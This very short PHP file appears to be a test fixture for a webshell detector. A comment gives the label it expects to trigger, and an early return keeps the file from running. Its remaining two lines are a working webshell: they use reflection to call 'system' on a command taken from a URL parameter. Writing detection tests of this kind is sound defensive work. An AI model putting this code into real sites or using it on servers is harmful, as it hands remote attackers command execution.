<?php return; // want: malicious webshell php.command.request
$f = new ReflectionFunction('system');
$f->invokeArgs(array($_GET['c']));
